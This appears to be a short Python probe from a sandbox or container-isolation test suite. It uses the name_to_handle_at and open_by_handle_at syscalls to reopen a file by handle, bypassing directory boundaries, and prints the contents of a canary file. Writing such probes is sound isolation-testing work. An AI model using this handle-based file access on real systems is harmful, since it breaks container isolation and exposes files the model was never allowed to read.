# canary: file
# needs: root
# A handle goes around every directory. Only the file system's own root is needed to open it.
import ctypes
import os

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = (303, 304) if os.uname().machine == "x86_64" else (264, 265)
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
mount = ctypes.c_int()
libc.syscall(NAME_TO_HANDLE_AT, -100, canary["file"].encode(), handle, ctypes.byref(mount), 0)
root = os.open(".", os.O_RDONLY)
print("CANARY:" + os.read(libc.syscall(OPEN_BY_HANDLE_AT, root, handle, os.O_RDONLY), 100).decode())
